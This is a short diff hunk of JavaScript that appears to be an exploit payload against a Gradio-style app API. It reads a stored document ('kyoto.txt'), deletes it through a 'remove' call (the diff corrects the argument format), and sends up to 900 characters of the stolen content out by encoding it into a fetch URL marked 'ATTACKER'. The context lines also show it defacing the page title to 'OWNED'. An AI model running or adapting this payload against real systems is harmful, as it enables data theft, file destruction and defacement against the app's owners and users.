@@ -32,7 +32,7 @@ document.title = "OWNED";
     body: JSON.stringify({ data, component_id: api, session_hash: "x", fn_name: "ask" }),
   })).json();
   const read = await ask({ name: "read", document: "kyoto.txt", key: "", start: 0 });
-  await ask({ name: "remove", id: "kyoto.txt", sure: true });
+  await ask({ name: "remove", ids: JSON.stringify(["kyoto.txt"]), sure: true });
   const leak = encodeURIComponent(JSON.stringify(read).slice(0, 900));
   await fetch(`/gradio_api/file=ATTACKER/leak/${leak}.png`);
 })();
